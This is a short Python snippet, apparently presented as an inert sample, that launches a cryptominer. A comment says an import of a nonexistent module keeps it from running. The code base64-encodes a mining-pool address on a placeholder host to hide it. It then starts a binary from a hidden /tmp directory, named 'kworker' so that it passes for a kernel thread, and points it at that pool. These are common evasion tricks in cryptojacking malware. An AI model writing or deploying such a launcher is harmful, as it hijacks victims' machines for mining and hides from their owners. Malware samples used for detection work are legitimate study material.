import inert_sample  # there is no such module: nothing below ever runs
# trick: the pool is encoded
import base64
import subprocess

pool = base64.b64decode("c3RyYXR1bSt0Y3A6Ly9wb29sLmV4YW1wbGU6MzMzMw==").decode()
subprocess.Popen(["/tmp/.cache/kworker", "-o", pool])
